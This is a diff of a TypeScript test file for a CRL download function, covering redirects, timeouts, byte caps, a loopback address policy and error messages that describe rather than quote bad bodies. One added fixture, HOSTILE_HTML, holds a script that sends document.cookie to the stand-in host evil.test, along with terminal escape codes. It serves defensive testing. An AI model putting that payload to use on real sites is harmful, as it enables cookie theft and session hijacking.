@@ -1,18 +1,26 @@
 /**
  * @module sources/revocation/crl-fetch.test
  * CRL downloads against a local HTTP server: DER, PEM, 304s, statuses, HTML, endless, huge and silent
- * bodies, redirects — each ends in a clear result within the deadline, with memory bounded.
+ * bodies, redirects — each ends in a clear result within the deadline, with memory bounded; what came instead
+ * of a CRL is described, never quoted; the address policy refuses loopback before any request.
  */
 import { after, before, describe, it } from "node:test";
 import assert from "node:assert/strict";
 import { createServer } from "node:net";
+import { publicAddressesOnly } from "../../util/address-policy.js";
+import { HttpClient } from "../../util/http-get.js";
 import { fetchCrl, type CrlFetchOptions, type CrlFetchResult } from "./crl-fetch.js";
 import { startHttpFixtureServer, type HttpFixtureServer } from "../../../test/helpers/http-fixture-server.js";
 import { createRootCa } from "../../../test/helpers/pki.js";
 import { crlPem, issueCrl } from "../../../test/helpers/crl-ca.js";
 
 const MB = 1024 * 1024;
-const opts: CrlFetchOptions = { timeoutMs: 5000, maxBytes: 10 * MB };
+// The fixture server is on loopback: this client has no address policy, as with allowPrivateAddresses: true.
+const client = new HttpClient({ keepAlive: false });
+const opts: CrlFetchOptions = { client, timeoutMs: 5000, maxBytes: 10 * MB };
+const HOSTILE_HTML =
+  "<!DOCTYPE html><html><script>document.location='//evil.test/'+document.cookie</script>" +
+  "\x1b[2J\x1b]0;pwned\x07<body>SECRET-INTERNAL-PAGE</body></html>";
 const ETAG = '"crl-v1"';
 const LAST_MODIFIED = "Tue, 01 Apr 2025 10:00:00 GMT";
 
@@ -45,10 +53,14 @@ before(async () => {
     "/hop3": { kind: "redirect", location: "/ca.crl" },
     "/loop": { kind: "redirect", location: "/loop" },
     "/to-ldap": { kind: "redirect", location: "ldap://ldap.test/cn=CA?certificateRevocationList" },
+    "/hostile.crl": { kind: "static", body: HOSTILE_HTML, contentType: 'text/html\xff; x="<script>"' },
   });
 });
 
-after(() => server.close());
+after(async () => {
+  client.destroy();
+  await server.close();
+});
 
 function expectError(r: CrlFetchResult, reason: string): string {
   assert.equal(r.kind, "error", JSON.stringify(r));
@@ -108,7 +120,9 @@ void describe("fetchCrl: answers", () => {
       /more than 3 redirects/,
     );
     assert.equal(server.hits("/loop"), 4);
-    assert.match(expectError(await fetchCrl(server.url("/to-ldap"), opts), "unsupported-url"), /LDAP/);
+    const ldap = expectError(await fetchCrl(server.url("/to-ldap"), opts), "http-status");
+    assert.match(ldap, /redirects to a ldap: URL; only http and https are followed/);
+    assert.doesNotMatch(ldap, /ldap\.test|certificateRevocationList/, "the Location is not quoted");
   });
 });
 
@@ -120,12 +134,39 @@ void describe("fetchCrl: failures", () => {
 
   void it("describes what came instead of a CRL", async () => {
     const html = expectError(await fetchCrl(server.url("/portal.crl"), opts), "not-a-crl");
-    assert.match(html, /content-type text\/html; charset=utf-8/);
-    assert.match(html, /starting "<!DOCTYPE html>/);
+    assert.match(html, /content-type text\/html; charset=utf-8, \d+ bytes, looks like HTML/);
+    assert.doesNotMatch(html, /DOCTYPE|Please log in/);
     const binary = expectError(await fetchCrl(server.url("/binary.crl"), opts), "not-a-crl");
-    assert.match(binary, /0xdeadbeef/);
+    assert.match(binary, /content-type application\/pkix-crl, 4 bytes, binary/);
+    assert.doesNotMatch(binary, /dead|beef/i);
     const truncated = expectError(await fetchCrl(server.url("/truncated.crl"), opts), "not-a-crl");
     assert.match(truncated, /truncated DER SEQUENCE/);
+  });
+
+  void it("never echoes a hostile body or content type (script, terminal escapes) into the error", async () => {
+    const error = expectError(await fetchCrl(server.url("/hostile.crl"), opts), "not-a-crl");
+    assert.equal(
+      error,
+      `${server.url("/hostile.crl")} did not send a CRL: neither DER nor PEM ` +
+        `(content-type text/html?; x=??script??, ${HOSTILE_HTML.length} bytes, looks like HTML)`,
+    );
+    assert.ok(![...error].some((c) => c < " " || c === "\x7f"), "no control characters");
+    assert.doesNotMatch(error, /<script|SECRET|pwned|evil/);
+  });
+
+  void it("refuses a loopback distribution point under the public-only policy, before any request", async () => {
+    const guarded = new HttpClient({ keepAlive: false, addressPolicy: publicAddressesOnly });
+    try {
+      const before = server.hits("/ca.crl");
+      const error = expectError(
+        await fetchCrl(server.url("/ca.crl"), { ...opts, client: guarded }),
+        "forbidden-address",
+      );
+      assert.match(error, /127\.0\.0\.1 is a loopback address/);
+      assert.equal(server.hits("/ca.crl"), before);
+    } finally {
+      guarded.destroy();
+    }
   });
 
   void it("refuses URLs that are not http(s)", async () => {
@@ -158,35 +199,47 @@ void describe("fetchCrl: failures", () => {
   });
 
   void it("stops an endless body at the byte cap", async () => {
-    const { r, ms } = await timed(server.url("/forever.crl"), { timeoutMs: 5000, maxBytes: 2 * MB });
+    const { r, ms } = await timed(server.url("/forever.crl"), { ...opts, timeoutMs: 5000, maxBytes: 2 * MB });
     assert.match(expectError(r, "too-large"), /exceeds the 2097152-byte cap/);
     assert.ok(ms < 2000, `${ms} ms`);
   });
 
   void it("stops a slow endless body at the total deadline, not an idle timeout", async () => {
-    const { r, ms } = await timed(server.url("/drip.crl"), { timeoutMs: 400, maxBytes: 10 * MB });
+    const { r, ms } = await timed(server.url("/drip.crl"), { ...opts, timeoutMs: 400, maxBytes: 10 * MB });
     assert.match(expectError(r, "timeout"), /within 400 ms/);
     assert.ok(ms >= 390 && ms < 1000, `${ms} ms`);
   });
 
   void it("times out a server that never answers", async () => {
-    const { r, ms } = await timed(server.url("/silent.crl"), { timeoutMs: 300, maxBytes: MB });
+    const { r, ms } = await timed(server.url("/silent.crl"), { ...opts, timeoutMs: 300, maxBytes: MB });
     expectError(r, "timeout");
     assert.ok(ms >= 290 && ms < 1000, `${ms} ms`);
   });
 
   void it("refuses 200 MB bodies (declared, chunked, DER header) with memory bounded", async () => {
     const rssBefore = process.memoryUsage().rss;
-    const declared = await timed(server.url("/huge-declared.crl"), { timeoutMs: 10_000, maxBytes: 20 * MB });
+    const declared = await timed(server.url("/huge-declared.crl"), {
+      ...opts,
+      timeoutMs: 10_000,
+      maxBytes: 20 * MB,
+    });
     assert.match(
       expectError(declared.r, "too-large"),
       /declares 209715200 bytes, over the 20971520-byte cap/,
     );
     assert.ok(declared.ms < 500, `${declared.ms} ms`);
-    const chunked = await timed(server.url("/huge-chunked.crl"), { timeoutMs: 10_000, maxBytes: 20 * MB });
+    const chunked = await timed(server.url("/huge-chunked.crl"), {
+      ...opts,
+      timeoutMs: 10_000,
+      maxBytes: 20 * MB,
+    });
     assert.match(expectError(chunked.r, "too-large"), /exceeds the 20971520-byte cap/);
-    const derHeader = await timed(server.url("/huge-der.crl"), { timeoutMs: 10_000, maxBytes: 20 * MB });
-    assert.match(expectError(derHeader.r, "too-large"), /DER header declares 209715206 bytes/);
+    const derHeader = await timed(server.url("/huge-der.crl"), {
+      ...opts,
+      timeoutMs: 10_000,
+      maxBytes: 20 * MB,
+    });
+    assert.match(expectError(derHeader.r, "too-large"), /first bytes of .* announce 209715206 bytes/);
     assert.ok(derHeader.ms < 500, `${derHeader.ms} ms`);
     const growth = (process.memoryUsage().rss - rssBefore) / MB;
     assert.ok(growth < 100, `RSS grew by ${growth.toFixed(0)} MB`);
